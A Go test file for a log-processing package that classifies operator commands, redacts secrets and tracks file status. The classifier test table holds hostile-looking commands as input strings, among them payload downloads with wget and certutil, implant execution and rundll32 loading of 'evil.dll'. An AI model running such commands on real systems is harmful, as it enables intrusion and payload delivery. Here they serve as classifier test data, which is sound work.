package filestatus

import (
	"context"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"relgraph/internal/batch"
	"relgraph/internal/store"
	"relgraph/pkg/models"
)

func TestClassifyCommand(t *testing.T) {
	cases := map[string]string{
		"upload /root/implant.elf":                        CategoryFileTransfer,
		"wget http://10.0.0.5/a.sh -O /tmp/a.sh":          CategoryFileTransfer,
		`certutil -urlcache -f http://x/a.exe a.exe`:      CategoryFileTransfer,
		"rm -rf /tmp/a.sh":                                CategoryDeletion,
		`cmd.exe /c del C:\Temp\beacon.exe`:               CategoryDeletion,
		"chmod +x ./implant":                              CategoryPermissionChange,
		"icacls secret.txt /grant Everyone:F":             CategoryPermissionChange,
		"openssl enc -aes-256-cbc -in db.sql -out db.enc": CategoryEncryption,
		"gpg -c loot.tar":                                 CategoryEncryption,
		"./implant --daemon":                              CategoryExecution,
		`C:\Windows\System32\rundll32.exe evil.dll,Start`: CategoryExecution,
		"whoami":                                          CategoryOther,
		"":                                                CategoryOther,
	}
	for cmd, want := range cases {
		assert.Equal(t, want, ClassifyCommand(cmd), cmd)
	}
}

func TestObservationsRedactAndClassify(t *testing.T) {
	t0 := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
	obs := Observations([]models.LogRow{
		{ID: 1, Timestamp: t0, Filename: "dump.zip", Command: "download dump.zip", Secrets: "token=abc", HashAlgorithm: "SHA256", HashValue: "ff00"},
		{ID: 2, Timestamp: t0, Command: "whoami"},
	}, models.LogTags{1: {3}})

	require.Len(t, obs, 1)
	assert.Equal(t, models.SecretsRedacted, obs[0].Log.Secrets)
	assert.Equal(t, CategoryFileTransfer, obs[0].Metadata["command_category"])
	assert.Equal(t, true, obs[0].Metadata["has_secrets"])
	assert.Equal(t, "sha256:ff00", obs[0].Metadata["hash"])
	assert.Equal(t, []int64{3}, obs[0].OperationTags)
}

func TestEnqueueRecordsOnFlush(t *testing.T) {
	ctx := context.Background()
	db, err := store.Open(ctx, store.Options{Driver: store.DriverSQLite, DSN: filepath.Join(t.TempDir(), "fs.db")})
	require.NoError(t, err)
	defer db.Close()
	require.NoError(t, db.Migrate(ctx, true))

	batches := batch.NewService(batch.Config{MaxBatchSize: 100, FlushDelay: time.Hour})
	defer batches.Close(ctx)
	svc := NewService(store.NewFileStatusModel(db, nil), batches)

	t0 := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
	n, err := svc.Enqueue(ctx, []models.LogRow{
		{ID: 1, Timestamp: t0, Filename: "a.exe", Hostname: "web01", Status: "ON_DISK", Command: "upload a.exe", Secrets: "pw"},
		{ID: 2, Timestamp: t0.Add(time.Minute), Filename: "a.exe", Hostname: "web01", Status: "REMOVED", Command: "rm a.exe"},
	}, nil)
	require.NoError(t, err)
	assert.Equal(t, 2, n)

	_, err = svc.Get(ctx, "a.exe", 0)
	assert.ErrorIs(t, err, store.ErrNotFound, "nothing is written before the queue flushes")

	require.NoError(t, batches.FlushAll(ctx))
	records, err := svc.Get(ctx, "a.exe", 0)
	require.NoError(t, err)
	require.Len(t, records, 1)
	assert.Equal(t, models.StatusRemoved, records[0].Status)
	assert.Equal(t, CategoryDeletion, records[0].Metadata["command_category"])
	require.Len(t, records[0].History, 2)
	assert.Equal(t, models.SecretsRedacted, records[0].History[0].Secrets)

	stats, err := svc.Stats(ctx)
	require.NoError(t, err)
	assert.Equal(t, 1, stats.TotalFiles)
}
